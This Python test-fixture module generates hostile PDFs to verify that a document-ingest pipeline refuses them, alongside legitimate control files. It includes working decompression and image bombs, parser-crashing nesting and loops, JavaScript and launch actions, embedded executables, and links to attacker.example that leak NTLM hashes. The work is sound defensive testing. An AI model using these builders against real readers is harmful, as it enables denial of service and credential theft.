"""A generated corpus of hostile PDFs, each aimed at one way a reader can be made to fail.

Built by hand (raw objects and a computed cross-reference table) so each file is exactly the
attack it names, and small: the largest is a few hundred kilobytes on disk."""

from __future__ import annotations

import zlib
from collections.abc import Callable

PAGE_CONTENT = b"BT /F1 24 Tf 72 720 Td (Council) Tj ET"


def build(
    objects: dict[int, bytes],
    *,
    root: int = 1,
    prefix: bytes = b"",
    trailer_extra: bytes = b"",
    header: bytes = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n",
    suffix: bytes = b"",
    xref: bool = True,
) -> bytes:
    """Serialize numbered objects (their bodies) into a PDF with a correct xref table."""
    out = bytearray(prefix + header)
    offsets = {}
    for number in sorted(objects):
        offsets[number] = len(out)
        out += b"%d 0 obj\n" % number + objects[number] + b"\nendobj\n"
    size = max(objects) + 1
    start = len(out)
    if xref:
        out += b"xref\n0 %d\n0000000000 65535 f \n" % size
        for number in range(1, size):
            if number in offsets:
                out += b"%010d 00000 n \n" % offsets[number]
            else:
                out += b"0000000000 65535 f \n"
    out += b"trailer\n<< /Size %d /Root %d 0 R " % (size, root) + trailer_extra + b">>\n"
    out += b"startxref\n%d\n%%%%EOF\n" % start + suffix
    return bytes(out)


def stream(data: bytes, extra: bytes = b"") -> bytes:
    return b"<< /Length %d " % len(data) + extra + b">>\nstream\n" + data + b"\nendstream"


def simple_objects(
    *,
    content: bytes = PAGE_CONTENT,
    page_extra: bytes = b"",
    catalog_extra: bytes = b"",
    content_extra: bytes = b"",
) -> dict[int, bytes]:
    return {
        1: b"<< /Type /Catalog /Pages 2 0 R " + catalog_extra + b">>",
        2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R "
        b"/Resources << /Font << /F1 5 0 R >> >> " + page_extra + b">>",
        4: stream(content, content_extra),
        5: b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    }


def valid() -> bytes:
    """The control: a plain one-page PDF that must be accepted."""
    return build(simple_objects())


def truncated() -> bytes:
    data = valid()
    return data[: len(data) // 3]


def looping_xref() -> bytes:
    """Two cross-reference sections whose /Prev pointers point at each other."""
    body = valid()
    start = body.rindex(b"startxref")
    first_xref = int(body[start:].split()[1])
    # Append a second (update) section whose /Prev is the first, and make the first point back.
    update = bytearray(body)
    second = len(update)
    update += b"xref\n0 1\n0000000000 65535 f \ntrailer\n<< /Size 6 /Root 1 0 R /Prev %d >>\n" % first_xref
    update += b"startxref\n%d\n%%%%EOF\n" % second
    data = bytes(update)
    marker = b"trailer\n<< /Size 6 /Root 1 0 R "
    i = data.index(marker)
    looped = data[:i] + marker + b"/Prev %d " % second + data[i + len(marker) :]
    # Keep byte offsets: the inserted /Prev shifted everything after it, so rebuild the tail.
    shift = len(looped) - len(data)
    second_shifted = second + shift
    looped = looped.replace(b"/Prev %d " % second, b"/Prev %d " % second_shifted, 1)
    tail = looped.rindex(b"startxref\n")
    return looped[:tail] + b"startxref\n%d\n%%%%EOF\n" % second_shifted


def deep_nesting(depth: int = 50_000) -> bytes:
    """An array nested far deeper than any recursive parser's stack."""
    nested = b"[" * depth + b"]" * depth
    objects = simple_objects(page_extra=b"/Deep 6 0 R ")
    objects[6] = nested
    return build(objects)


def deep_dictionary_nesting(depth: int = 20_000) -> bytes:
    nested = b"<< /A " * depth + b"1" + b" >>" * depth
    objects = simple_objects(catalog_extra=b"/Deep 6 0 R ")
    objects[6] = nested
    return build(objects)


def huge_object_stream() -> bytes:
    """The second page lives in an object stream declaring 2 billion objects and a first offset
    far past its few real bytes: a reader that trusts /N or /First allocates or seeks forever."""
    objects = simple_objects()
    objects[2] = b"<< /Type /Pages /Kids [3 0 R 6 0 R] /Count 2 >>"
    header_part = b"6 0 "
    page = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R >>"
    objects[7] = stream(
        zlib.compress(header_part + page),
        b"/Type /ObjStm /N 2000000000 /First 999999999999 /Filter /FlateDecode ",
    )
    return build_with_xref_stream(objects, {6: (7, 0)})


def huge_declared_length() -> bytes:
    """A content stream whose /Length claims 8 exabytes."""
    objects = simple_objects()
    objects[4] = b"<< /Length 9223372036854775807 >>\nstream\n" + PAGE_CONTENT + b"\nendstream"
    return build(objects)


def _zeros_deflated(total: int) -> bytes:
    """zlib data inflating to ``total`` zero bytes, made in well under a second.

    Deflate blocks ended by a full flush are byte-aligned and independent, so one compressed
    16 MiB block repeats; the Adler-32 of n zeros is (n mod 65521) << 16 | 1."""
    block = 16 * 1024 * 1024
    comp = zlib.compressobj(9, zlib.DEFLATED, -15)
    zeros = b"\x00" * block
    first = comp.compress(zeros) + comp.flush(zlib.Z_FULL_FLUSH)
    repeat = comp.compress(zeros) + comp.flush(zlib.Z_FULL_FLUSH)
    count = max(1, total // block)
    raw = first + repeat * (count - 1) + comp.flush()
    adler = ((count * block % 65521) << 16) | 1
    return b"\x78\xda" + raw + adler.to_bytes(4, "big")


def decompression_bomb(megabytes: int = 1024) -> bytes:
    """A page content stream of a few kilobytes that inflates (twice) to gigabytes."""
    once = _zeros_deflated(megabytes * 1024 * 1024)
    twice = zlib.compress(once, 9)
    return build(simple_objects(content=twice, content_extra=b"/Filter [/FlateDecode /FlateDecode] "))


def image_bomb() -> bytes:
    """An image XObject declaring 100000 x 100000 pixels (30 GB of RGB) from a tiny stream."""
    objects = simple_objects(content=b"q 612 0 0 792 0 0 cm /Im1 Do Q")
    objects[3] = (
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R "
        b"/Resources << /XObject << /Im1 6 0 R >> >> >>"
    )
    data = _zeros_deflated(64 * 1024 * 1024)
    objects[6] = stream(
        data,
        b"/Type /XObject /Subtype /Image /Width 100000 /Height 100000 "
        b"/ColorSpace /DeviceRGB /BitsPerComponent 8 /Filter /FlateDecode ",
    )
    return build(objects)


def javascript_in_link() -> bytes:
    """A link annotation that runs JavaScript when clicked."""
    objects = simple_objects(page_extra=b"/Annots [6 0 R] ")
    objects[6] = (
        b"<< /Type /Annot /Subtype /Link /Rect [0 0 612 792] "
        b"/A << /S /JavaScript /JS (app.alert\\(document.cookie\\)) >> >>"
    )
    return build(objects)


def build_with_xref_stream(objects: dict[int, bytes], compressed: dict[int, tuple[int, int]]) -> bytes:
    """A PDF 1.5+ file: a cross-reference stream, with ``compressed`` objects (number -> (object
    stream, index)) living inside object streams instead of at file offsets."""
    body = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = {}
    for number in sorted(objects):
        offsets[number] = len(body)
        body += b"%d 0 obj\n" % number + objects[number] + b"\nendobj\n"
    xref_number = max([*objects, *compressed]) + 1
    offsets[xref_number] = len(body)
    rows = [b"\x00\x00\x00\x00\xff\xff"]
    for number in range(1, xref_number + 1):
        if number in compressed:
            stream_number, index = compressed[number]
            rows.append(b"\x02" + stream_number.to_bytes(4, "big") + bytes([index]))
        elif number in offsets:
            rows.append(b"\x01" + offsets[number].to_bytes(4, "big") + b"\x00")
        else:
            rows.append(b"\x00\x00\x00\x00\x00\x00")
    body += (
        b"%d 0 obj\n" % xref_number
        + stream(b"".join(rows), b"/Type /XRef /Size %d /W [1 4 1] /Root 1 0 R " % (xref_number + 1))
        + b"\nendobj\n"
    )
    body += b"startxref\n%d\n%%%%EOF\n" % offsets[xref_number]
    return bytes(body)


def javascript_hidden_in_object_stream() -> bytes:
    """The catalog's /OpenAction is a JavaScript action stored compressed in an object stream."""
    objects = simple_objects(catalog_extra=b"/OpenAction 6 0 R ")
    header_part = b"6 0 "
    objects[7] = stream(
        zlib.compress(header_part + b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>"),
        b"/Type /ObjStm /N 1 /First %d /Filter /FlateDecode " % len(header_part),
    )
    return build_with_xref_stream(objects, {6: (7, 0)})


def launch_action() -> bytes:
    objects = simple_objects(page_extra=b"/Annots [6 0 R] ")
    objects[6] = (
        b"<< /Type /Annot /Subtype /Link /Rect [0 0 612 792] "
        b"/A << /S /Launch /F (C:\\\\Windows\\\\System32\\\\calc.exe) /NewWindow true >> >>"
    )
    return build(objects)


def launch_in_page_open_action() -> bytes:
    return build(simple_objects(page_extra=b"/AA << /O << /S /Launch /F (/bin/sh) >> >> "))


def embedded_file_annotation() -> bytes:
    objects = simple_objects(page_extra=b"/Annots [6 0 R] ")
    objects[6] = b"<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 20 20] /FS 7 0 R >>"
    objects[7] = b"<< /Type /Filespec /F (invoice.exe) /EF << /F 8 0 R >> >>"
    objects[8] = stream(b"MZ\x90\x00 not really a program", b"/Type /EmbeddedFile ")
    return build(objects)


def embedded_file_in_names() -> bytes:
    objects = simple_objects(catalog_extra=b"/Names << /EmbeddedFiles << /Names [(a.exe) 6 0 R] >> >> ")
    objects[6] = b"<< /Type /Filespec /F (a.exe) /EF << /F 7 0 R >> >>"
    objects[7] = stream(b"MZ payload", b"/Type /EmbeddedFile ")
    return build(objects)


def _link_leaving(action: bytes) -> bytes:
    objects = simple_objects(page_extra=b"/Annots [6 0 R] ")
    objects[6] = b"<< /Type /Annot /Subtype /Link /Rect [0 0 612 792] /A " + action + b" >>"
    return build(objects)


def remote_goto_link() -> bytes:
    """A link into another PDF on a file server: Windows sends the user's NTLM hash to it."""
    return _link_leaving(b"<< /S /GoToR /F (\\\\\\\\attacker.example\\\\share\\\\a.pdf) /D [0 /Fit] >>")


def file_uri_link() -> bytes:
    return _link_leaving(b"<< /S /URI /URI (file:///etc/passwd) >>")


def unc_uri_link() -> bytes:
    return _link_leaving(b"<< /S /URI /URI (\\\\\\\\attacker.example\\\\share\\\\x) >>")


def open_action_to_another_file() -> bytes:
    return build(simple_objects(catalog_extra=b"/OpenAction << /S /GoToR /F (other.pdf) /D [0 /Fit] >> "))


def junk_before_header() -> bytes:
    return build(simple_objects(), prefix=b"\x89JUNK" + b"A" * 2000 + b"\n")


def polyglot_html() -> bytes:
    """An HTML page that is also a PDF (readers search the first kilobyte for the header)."""
    return build(
        simple_objects(),
        prefix=b"<html><body><script>alert(document.domain)</script><!--\n",
        suffix=b"-->\n</body></html>\n",
    )


def polyglot_zip() -> bytes:
    """A PDF with a ZIP archive (a JAR) appended after %%EOF."""
    import io
    import zipfile

    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("META-INF/MANIFEST.MF", "Manifest-Version: 1.0\nMain-Class: Evil\n")
        archive.writestr("Evil.class", b"\xca\xfe\xba\xbe payload")
    return valid() + buffer.getvalue()


def no_pages() -> bytes:
    return build({1: b"<< /Type /Catalog /Pages 2 0 R >>", 2: b"<< /Type /Pages /Kids [] /Count 0 >>"})


def page_tree_loop() -> bytes:
    """A page tree whose node lists itself as its own kid."""
    objects = simple_objects()
    objects[2] = b"<< /Type /Pages /Kids [2 0 R 3 0 R] /Count 2 >>"
    return build(objects)


def empty_file() -> bytes:
    return b""


def header_only() -> bytes:
    return b"%PDF-1.7\n%%EOF\n"


# --- the control set: files real software writes, which must be accepted ----------------------


def incremental_update() -> bytes:
    """The control with its page text replaced by an incremental update: a second body, xref
    section and %%EOF appended, the new trailer's /Prev pointing at the first (how editors save)."""
    body = valid()
    first_xref = int(body[body.rindex(b"startxref") :].split()[1])
    out = bytearray(body)
    offset = len(out)
    out += b"4 0 obj\n" + stream(b"BT /F1 24 Tf 72 720 Td (Council, amended) Tj ET") + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 1\n0000000000 65535 f \n4 1\n%010d 00000 n \n" % offset
    out += b"trailer\n<< /Size 6 /Root 1 0 R /Prev %d >>\nstartxref\n%d\n%%%%EOF\n" % (first_xref, xref)
    return bytes(out)


def trailing_padding() -> bytes:
    """Line ends and a block of NUL bytes after %%EOF, as some scanners and mail gateways leave."""
    return valid() + b"\r\n" + b"\x00" * 4096 + b"\n"


def xref_offset_off() -> bytes:
    """One cross-reference entry two bytes off: qpdf finds the object anyway."""
    data = valid()
    table = data.rindex(b"xref\n0 6\n")
    lines = data[table:].split(b"\n")
    lines[5] = b"%010d 00000 n " % (int(lines[5][:10]) + 2)  # object 3
    return data[:table] + b"\n".join(lines)


def stream_length_off() -> bytes:
    """A content stream whose /Length is three bytes short: qpdf recovers the real length."""
    objects = simple_objects()
    objects[4] = b"<< /Length %d >>\nstream\n" % (len(PAGE_CONTENT) - 3) + PAGE_CONTENT + b"\nendstream"
    return build(objects)


def weasyprint_document() -> bytes:
    """Two A4 pages of Japanese text from WeasyPrint, the platform's own PDF writer."""
    import weasyprint

    html = (
        "<html lang='ja'><head><meta charset='utf-8'><style>@page{size:A4} body{font-family:"
        "'Noto Sans CJK JP',sans-serif} section{page-break-after:always}</style></head><body>"
        "<section><h1>議案第1号</h1><p>町税条例の一部を改正する条例について</p></section>"
        "<section><h1>議案第2号</h1><p>一般会計補正予算</p></section></body></html>"
    )
    return weasyprint.HTML(string=html).write_pdf()


def object_streams_linearized() -> bytes:
    """The WeasyPrint document rewritten by qpdf (pikepdf) with object streams, a cross-reference
    stream and linearization (two %%EOF), as PDF 1.5+ writers and web-optimizing tools produce."""
    import io

    import pikepdf

    out = io.BytesIO()
    with pikepdf.open(io.BytesIO(weasyprint_document())) as pdf:
        pdf.save(out, linearize=True, object_stream_mode=pikepdf.ObjectStreamMode.generate)
    return out.getvalue()


CONTROLS: dict[str, Callable[[], bytes]] = {
    "valid": valid,
    "incremental_update": incremental_update,
    "trailing_padding": trailing_padding,
    "xref_offset_off": xref_offset_off,
    "stream_length_off": stream_length_off,
    "weasyprint": weasyprint_document,
    "object_streams_linearized": object_streams_linearized,
}


# name -> (builder, refusal reasons accepted, the damage named for files a reader could repair).
# Every file is refused; the damage kind (``documents.ingest_damage``) picks the sentence saying
# what was wrong, for damage qpdf would otherwise have quietly repaired into a clean-looking copy.
CORPUS: dict[str, tuple[Callable[[], bytes], set[str], str]] = {
    "truncated": (truncated, {"damaged"}, ""),
    "empty": (empty_file, {"not_pdf"}, ""),
    "header_only": (header_only, {"damaged"}, ""),
    "looping_xref": (looping_xref, {"damaged"}, "xref_loop"),
    "deep_array_nesting": (deep_nesting, {"damaged"}, "nesting"),
    "deep_dictionary_nesting": (deep_dictionary_nesting, {"damaged"}, "nesting"),
    "page_tree_loop": (page_tree_loop, {"damaged"}, ""),
    "no_pages": (no_pages, {"damaged"}, ""),
    "huge_object_stream": (huge_object_stream, {"damaged"}, "object_stream"),
    "huge_declared_length": (huge_declared_length, {"damaged"}, "stream_length"),
    "decompression_bomb": (decompression_bomb, {"memory", "timeout", "damaged"}, ""),
    "image_bomb": (image_bomb, {"memory", "timeout", "damaged"}, ""),
    "javascript_link": (javascript_in_link, {"active_content"}, ""),
    "javascript_in_object_stream": (javascript_hidden_in_object_stream, {"active_content"}, ""),
    "launch_action": (launch_action, {"active_content"}, ""),
    "launch_page_open_action": (launch_in_page_open_action, {"active_content"}, ""),
    "embedded_file_annotation": (embedded_file_annotation, {"embedded_file"}, ""),
    "embedded_file_names": (embedded_file_in_names, {"embedded_file"}, ""),
    "remote_goto_link": (remote_goto_link, {"remote_link"}, ""),
    "file_uri_link": (file_uri_link, {"remote_link"}, ""),
    "unc_uri_link": (unc_uri_link, {"remote_link"}, ""),
    "open_action_to_another_file": (open_action_to_another_file, {"remote_link"}, ""),
    "junk_before_header": (junk_before_header, {"not_pdf"}, ""),
    "polyglot_html": (polyglot_html, {"not_pdf"}, ""),
    "polyglot_zip": (polyglot_zip, {"not_pdf"}, "appended_file"),
}
